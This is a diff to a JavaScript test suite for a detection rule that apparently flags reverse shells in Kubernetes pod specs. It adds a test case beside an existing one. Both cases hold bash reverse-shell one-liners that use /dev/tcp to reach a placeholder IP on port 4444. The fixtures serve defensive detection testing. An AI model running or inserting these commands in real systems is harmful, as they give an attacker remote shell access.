@@ -33,6 +33,10 @@ describe('rule reverse-shell-in-spec', () => {
         'behind something that looks',
         { request: pod(running('bash', '-c', 'ls|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')) },
       ],
+      [
+        'a shell that reads from a connection',
+        { request: pod(running('bash', '-c', 'bash </dev/tcp/203.0.113.7/4444')) },
+      ],
       ['refused', { code: 7 }, { severity: 'high', confidence: 0.75 }],
       ['failed', { code: 3 }, { severity: 'high', confidence: 0.75 }],
     ],
